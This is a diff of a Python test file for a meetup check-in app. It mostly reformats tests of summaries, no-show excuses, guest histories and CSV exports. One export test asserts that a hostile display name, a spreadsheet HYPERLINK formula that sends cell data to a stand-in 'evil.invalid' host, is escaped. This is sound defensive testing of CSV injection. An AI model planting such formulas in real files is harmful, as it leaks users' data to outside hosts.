@@ -6,11 +6,11 @@ import io
 from datetime import datetime, timedelta
 
 import pytest
+from helpers import assert_query_count, create_meetup
 
 from doorapp.db import iso
 from doorapp.export import FORMULA_START
 from doorapp.models import AuditEvent, Ban, Guest, Meetup, MeetupGuest, Org
-from tests.helpers import assert_query_count, create_meetup
 
 DEMO = "https://demo.door.invalid/night-owls"
 
@@ -21,15 +21,17 @@ def base(meetup):
 
 def add(meetup, platform_user_id, username, **fields):
     guest = Guest.get_or_none(platform_user_id=platform_user_id) or Guest.create(
-        platform_user_id=platform_user_id, username=username, displayname=username.title())
+        platform_user_id=platform_user_id, username=username, displayname=username.title()
+    )
     return MeetupGuest.create(meetup=meetup, guest=guest, rsvp_time=datetime(2026, 11, 20), **fields)
 
 
 def check_in(client, meetup, platform_user_id, at, **body):
     """Check in through the API, then move the arrival to `at` (the evening being drawn)."""
     reply = client.post_json(f"{base(meetup)}/guests/{platform_user_id}/checkin", body)
-    MeetupGuest.update(arrival_time=at).where(MeetupGuest.meetup == meetup,
-                                              MeetupGuest.guest == platform_user_id).execute()
+    MeetupGuest.update(arrival_time=at).where(
+        MeetupGuest.meetup == meetup, MeetupGuest.guest == platform_user_id
+    ).execute()
     return reply
 
 
@@ -62,26 +64,47 @@ def evening(door, boss_user, meetup, guest, org):
     check_in(door, meetup, 8, start + timedelta(minutes=50))
     nadia = door.post_json(f"{base(meetup)}/local-walkins", {"displayname": "Nadia Volkova"}, status=201)
     MeetupGuest.update(arrival_time=start + timedelta(minutes=55)).where(
-        MeetupGuest.guest == nadia.json["guest"]["platform_user_id"]).execute()
+        MeetupGuest.guest == nadia.json["guest"]["platform_user_id"]
+    ).execute()
     return meetup
 
 
 def test_the_summary_counts_the_evening_and_draws_arrivals_per_15_minutes(door, evening):
     summary = door.get(f"{base(evening)}/summary").json
-    assert summary["counts"] == {"rsvps": 6, "arrived": 5, "no_shows": 2, "excused": 0, "cancelled": 1,
-                                 "waitlisted": 1, "walkins": 2, "local_walkins": 1, "forced_check_ins": 1,
-                                 "undone_check_ins": 1, "guests_brought": 2, "people": 7}
+    assert summary["counts"] == {
+        "rsvps": 6,
+        "arrived": 5,
+        "no_shows": 2,
+        "excused": 0,
+        "cancelled": 1,
+        "waitlisted": 1,
+        "walkins": 2,
+        "local_walkins": 1,
+        "forced_check_ins": 1,
+        "undone_check_ins": 1,
+        "guests_brought": 2,
+        "people": 7,
+    }
     assert summary["first_arrival"] == "2026-12-05T20:03:00Z"
     assert summary["last_arrival"] == "2026-12-05T20:58:00Z"
     assert summary["bar_minutes"] == 15
-    assert summary["arrivals"] == [{"start": "2026-12-05T20:00:00Z", "count": 2},
-                                   {"start": "2026-12-05T20:15:00Z", "count": 1},
-                                   {"start": "2026-12-05T20:30:00Z", "count": 0},
-                                   {"start": "2026-12-05T20:45:00Z", "count": 2}]
+    assert summary["arrivals"] == [
+        {"start": "2026-12-05T20:00:00Z", "count": 2},
+        {"start": "2026-12-05T20:15:00Z", "count": 1},
+        {"start": "2026-12-05T20:30:00Z", "count": 0},
+        {"start": "2026-12-05T20:45:00Z", "count": 2},
+    ]
     assert [(g["displayname"], g["outcome"]) for g in summary["guests"]] == [
-        ("Alice Ångström", "ATTENDED"), ("Bob", "ATTENDED"), ("Mallory", "ATTENDED"), ("Wendy", "WALK_IN"),
-        ("Nadia Volkova", "WALK_IN"), ("Carol", "NO_SHOW"), ("Dave", "CANCELLED"), ("Erin", "WAITLIST"),
-        ("Trent", "NO_SHOW")]
+        ("Alice Ångström", "ATTENDED"),
+        ("Bob", "ATTENDED"),
+        ("Mallory", "ATTENDED"),
+        ("Wendy", "WALK_IN"),
+        ("Nadia Volkova", "WALK_IN"),
+        ("Carol", "NO_SHOW"),
+        ("Dave", "CANCELLED"),
+        ("Erin", "WAITLIST"),
+        ("Trent", "NO_SHOW"),
+    ]
     assert summary["outcomes"] == {"ATTENDED": 3, "WALK_IN": 2, "NO_SHOW": 2, "CANCELLED": 1, "WAITLIST": 1}
     alice = summary["guests"][0]
     assert (alice["guests_count"], alice["arrival_order"], alice["checked_in_by"]) == (2, 1, "sam")
@@ -114,26 +137,36 @@ def test_an_admin_excuses_a_no_show_with_a_reason_once(boss, evening):
     assert again["code"] == "already_excused"
     for who, outcome in ((1, "ATTENDED"), (4, "CANCELLED"), (5, "WAITLIST")):
         user_id = 9007199254740993 if who == 1 else who
-        refused = boss.patch_json(f"{base(evening)}/guests/{user_id}/excuse", {"reason": "x"},
-                                  status=409).json
+        refused = boss.patch_json(
+            f"{base(evening)}/guests/{user_id}/excuse", {"reason": "x"}, status=409
+        ).json
         assert refused["code"] == "not_a_no_show" and outcome in refused["detail"]
-    assert boss.patch_json(f"{base(evening)}/guests/8/excuse", {"reason": "x"}, status=409).json["code"] \
-        == "not_a_no_show"  # a walk-in
-    assert boss.patch_json(f"{base(evening)}/guests/3/excuse", {}, status=422).json["errors"][0]["loc"] \
-        == ["body", "reason"]
+    assert (
+        boss.patch_json(f"{base(evening)}/guests/8/excuse", {"reason": "x"}, status=409).json["code"]
+        == "not_a_no_show"
+    )  # a walk-in
+    assert boss.patch_json(f"{base(evening)}/guests/3/excuse", {}, status=422).json["errors"][0]["loc"] == [
+        "body",
+        "reason",
+    ]
     Guest.create(platform_user_id=99, username="zed")
-    assert boss.patch_json(f"{base(evening)}/guests/99/excuse", {"reason": "x"}, status=404).json["code"] \
+    assert (
+        boss.patch_json(f"{base(evening)}/guests/99/excuse", {"reason": "x"}, status=404).json["code"]
         == "not_on_list"
+    )
     assert AuditEvent.select().where(AuditEvent.event_type == "NO_SHOW_EXCUSED").count() == 1
 
 
 def test_a_finalized_meetup_can_still_have_a_no_show_excused(boss, evening):
     boss.patch_json(f"{base(evening)}/finalize", {})
-    assert boss.patch_json(f"{base(evening)}/guests/7/excuse", {"reason": "Door mistake"}).json["outcome"] \
+    assert (
+        boss.patch_json(f"{base(evening)}/guests/7/excuse", {"reason": "Door mistake"}).json["outcome"]
         == "EXCUSED_ABSENCE"
+    )
 
 
 # --- CSV exports ------------------------------------------------------------------------------------------
+
 
 def test_the_meetup_export_is_a_spreadsheet_safe_csv_of_the_demo_evening(door, boss, org):
     """The demo's book circle carries every hostile name of the demo community (HTML, SQL, and one
@@ -143,11 +176,23 @@ def test_the_meetup_export_is_a_spreadsheet_safe_csv_of_the_demo_evening(door, b
     door.post_json(f"/organizations/{org.id}/meetups/{meetup['id']}/guests/1009/checkin", {})
     reply = boss.get(f"/organizations/{org.id}/meetups/{meetup['id']}/export")
     assert reply.headers["Content-Type"] == "text/csv; charset=utf-8"
-    assert reply.headers["Content-Disposition"] \
-        == 'attachment; filename="Book-circle-Borges-and-2026-12-10.csv"'
+    assert (
+        reply.headers["Content-Disposition"] == 'attachment; filename="Book-circle-Borges-and-2026-12-10.csv"'
+    )
     header, *rows = read_csv(reply)
-    assert header == ["platform_user_id", "username", "displayname", "outcome", "guests_count", "rsvp_time",
-                      "cancelled_at", "arrival_order", "arrival_time", "checked_in_by", "excused_at"]
+    assert header == [
+        "platform_user_id",
+        "username",
+        "displayname",
+        "outcome",
+        "guests_count",
+        "rsvp_time",
+        "cancelled_at",
+        "arrival_order",
+        "arrival_time",
+        "checked_in_by",
+        "excused_at",
+    ]
     assert len(rows) == 40 and all(len(row) == len(header) for row in rows)
     names = {int(row[0]): row[2] for row in rows}
     assert names[1009] == "'" + '=HYPERLINK("https://evil.invalid/?leak="&A1,"Click me")'
@@ -164,10 +209,28 @@ def test_the_audit_export_takes_the_lists_filters(boss, door, evening, org):
     reply = boss.get(f"/organizations/{org.id}/events/export?type=CHECK_IN,UNDO_CHECK_IN&limit=1")
     assert reply.headers["Content-Disposition"] == 'attachment; filename="night-owls-audit-log.csv"'
     header, *rows = read_csv(reply)
-    assert header == ["id", "timestamp", "event_type", "actor", "guest_id", "guest_username",
-                      "guest_displayname", "meetup_id", "meetup", "reason", "details"]
-    assert [row[2] for row in rows] == ["CHECK_IN", "CHECK_IN", "UNDO_CHECK_IN", "CHECK_IN", "CHECK_IN",
-                                        "CHECK_IN", "CHECK_IN"]  # newest first, every page
+    assert header == [
+        "id",
+        "timestamp",
+        "event_type",
+        "actor",
+        "guest_id",
+        "guest_username",
+        "guest_displayname",
+        "meetup_id",
+        "meetup",
+        "reason",
+        "details",
+    ]
+    assert [row[2] for row in rows] == [
+        "CHECK_IN",
+        "CHECK_IN",
+        "UNDO_CHECK_IN",
+        "CHECK_IN",
+        "CHECK_IN",
+        "CHECK_IN",
+        "CHECK_IN",
+    ]  # newest first, every page
     assert rows[0][6] == "Nadia Volkova"
     assert rows[2][3:10] == ["sam", "7", "trent", "Trent", str(evening.id), "Summer social", "Wrong Trent"]
     assert rows[2][10].startswith('{"arrival_order": 4, "arrival_time": "')
@@ -180,8 +243,10 @@ def test_the_audit_export_takes_the_lists_filters(boss, door, evening, org):
 
 def test_openapi_documents_the_exports_as_text_csv(client):
     paths = client.get("/openapi.json").json["paths"]
-    for path in ("/organizations/{org_id}/meetups/{meetup_id}/export",
-                 "/organizations/{org_id}/events/export"):
+    for path in (
+        "/organizations/{org_id}/meetups/{meetup_id}/export",
+        "/organizations/{org_id}/events/export",
+    ):
         assert list(paths[path]["get"]["responses"]["200"]["content"]) == ["text/csv"]
     summary = paths["/organizations/{org_id}/meetups/{meetup_id}/summary"]["get"]["responses"]["200"]
     assert list(summary["content"]) == ["application/json"]
@@ -189,9 +254,14 @@ def test_openapi_documents_the_exports_as_text_csv(client):
 
 # --- a guest's history --------------------------------------------------------------------------------------
 
+
 def past_meetups(org, count, first=datetime(2026, 6, 1)):
-    return [Meetup.create(org=org, name=f"Night {n}", date=first + timedelta(days=7 * n),
-                          platform_url=f"{DEMO}/night-{n}") for n in range(count)]
+    return [
+        Meetup.create(
+            org=org, name=f"Night {n}", date=first + timedelta(days=7 * n), platform_url=f"{DEMO}/night-{n}"
+        )
+        for n in range(count)
+    ]
 
 
 def history_at_the_door(door, meetup, guest_id):
@@ -199,18 +269,24 @@ def history_at_the_door(door, meetup, guest_id):
     return next(r["guest"]["history"] for r in rows if r["guest"]["platform_user_id"] == guest_id)
 
 
-def test_the_door_row_shows_visits_and_recent_no_shows_and_an_excuse_clears_the_mark(door, boss, org, meetup,
-                                                                                    guest):
+def test_the_door_row_shows_visits_and_recent_no_shows_and_an_excuse_clears_the_mark(
+    door, boss, org, meetup, guest
+):
     gid = guest.platform_user_id
     *old, a, b, c, d, e = past_meetups(org, 7)  # the last 5 before this meetup are the recent ones
-    add(old[0], gid, "alice")                    # a no-show, too long ago to count
+    add(old[0], gid, "alice")  # a no-show, too long ago to count
     for past in (old[1], a, b):
         add(past, gid, "alice", has_arrived=True, arrival_time=past.date)
     for past in (c, d, e):
-        add(past, gid, "alice")                  # three recent no-shows
+        add(past, gid, "alice")  # three recent no-shows
     history = history_at_the_door(door, meetup, gid)
-    assert history == {"visits": 3, "last_visit": iso(b.date), "recent_no_shows": 3, "recent": 5,
-                       "repeat_no_show": True}
+    assert history == {
+        "visits": 3,
+        "last_visit": iso(b.date),
+        "recent_no_shows": 3,
+        "recent": 5,
+        "repeat_no_show": True,
+    }
     other = Org.create(name="Other", slug="other")
     add(past_meetups(other, 1)[0], gid, "alice")  # another org's no-show is not this org's business
     boss.patch_json(f"{base(c)}/guests/{gid}/excuse", {"reason": "Snow"})
@@ -236,11 +312,19 @@ def test_an_admin_reads_a_guests_history_with_outcomes_and_bans(boss, door, org,
     assert history["last_visit"] == "2026-06-01T00:00:00Z" and history["is_banned"] is True
     assert history["ban_reason"] == "Rude again"
     assert [(b["event_type"], b["reason"]) for b in history["bans"]] == [
-        ("BAN", "Rude again"), ("UNBAN", None), ("BAN", "Rude")]
+        ("BAN", "Rude again"),
+        ("UNBAN", None),
+        ("BAN", "Rude"),
+    ]
     assert [(m["name"], m["outcome"], m["guests_count"]) for m in history["meetups"]] == [
-        ("Summer social", "UPCOMING", 0), ("Night 1", "NO_SHOW", 0), ("Night 0", "ATTENDED", 1)]
-    assert door.get(f"/organizations/{org.id}/guests/{gid}/history", status=403).json["code"] \
+        ("Summer social", "UPCOMING", 0),
+        ("Night 1", "NO_SHOW", 0),
+        ("Night 0", "ATTENDED", 1),
+    ]
+    assert (
+        door.get(f"/organizations/{org.id}/guests/{gid}/history", status=403).json["code"]
         == "org_admin_required"
+    )
     assert boss.get(f"/organizations/{org.id}/guests/12345/history", status=404).json["code"] == "not_found"
 
 
@@ -249,10 +333,19 @@ def test_the_summary_takes_as_many_queries_for_2000_guests_as_for_one(door, meet
         door.get(f"{base(meetup)}/summary")
     checker = make_user("tom").id
     Guest.insert_many([{"platform_user_id": i, "username": f"guest{i}"} for i in range(1, 2000)]).execute()
-    MeetupGuest.insert_many([{"meetup": meetup.id, "guest": i, "has_arrived": i % 2, "arrival_order": i,
-                              "checked_in_by": checker if i % 2 else None,
-                              "arrival_time": datetime(2026, 12, 5, 20) + timedelta(seconds=i)}
-                             for i in range(1, 2000)]).execute()
+    MeetupGuest.insert_many(
+        [
+            {
+                "meetup": meetup.id,
+                "guest": i,
+                "has_arrived": i % 2,
+                "arrival_order": i,
+                "checked_in_by": checker if i % 2 else None,
+                "arrival_time": datetime(2026, 12, 5, 20) + timedelta(seconds=i),
+            }
+            for i in range(1, 2000)
+        ]
+    ).execute()
     with assert_query_count(len(statements)):
         summary = door.get(f"{base(meetup)}/summary").json
     assert summary["counts"]["arrived"] == 1000 and summary["guests"][0]["checked_in_by"] == "tom"
